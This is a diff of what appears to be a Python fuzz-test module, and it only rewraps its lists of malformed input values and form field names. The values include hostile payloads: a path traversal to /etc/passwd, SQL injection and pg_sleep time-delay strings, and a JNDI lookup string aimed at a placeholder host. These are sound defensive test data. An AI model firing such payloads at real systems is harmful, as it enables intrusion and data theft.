@@ -21,14 +21,16 @@ METHODS = (
 #: Values that are not what a field asks for.
 ODD = (
     "", " ", "0", "-1", "1e309", "NaN", "9" * 400, "true", "null", "[]", "{}", "\x00", "a\x00b", "\ud7ff", "\u202e",
-    "é" * 500, "../../../etc/passwd", "%00", "%ff", "%", "2026-13-45", "0000-00-00", "2026-09-06T25:61", "9999999999999999999",
-    "P-7Q4K2", "on", "x" * 70_000, "'\"`;--", "' OR 1=1 --", "1;SELECT pg_sleep(9)", "${jndi:ldap://canary.example/a}",
+    "é" * 500, "../../../etc/passwd", "%00", "%ff", "%", "2026-13-45", "0000-00-00",
+    "2026-09-06T25:61", "9999999999999999999", "P-7Q4K2", "on", "x" * 70_000,
+    "'\"`;--", "' OR 1=1 --", "1;SELECT pg_sleep(9)", "${jndi:ldap://canary.example/a}",
 )  # fmt: skip
 FIELDS = (
     "given_name", "family_name", "display_name", "email", "country", "organisation", "profession", "privacy", "action",
     "code", "q", "page", "o", "p", "kind", "working_group", "open", "language", "next", "call", "call__id__exact",
     "state__exact", "_to_field", "_popup", "username", "login", "password", "_selected_action",
-    "index", "select_across", "decision", "title", "slug", "published_at", "_save", "reason", "outcome", "version", "stamp", "format",
+    "index", "select_across", "decision", "title", "slug", "published_at", "_save", "reason", "outcome", "version",
+    "stamp", "format",
 )  # fmt: skip
 _TYPES = (
     "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "multipart/form-data", "application/json",
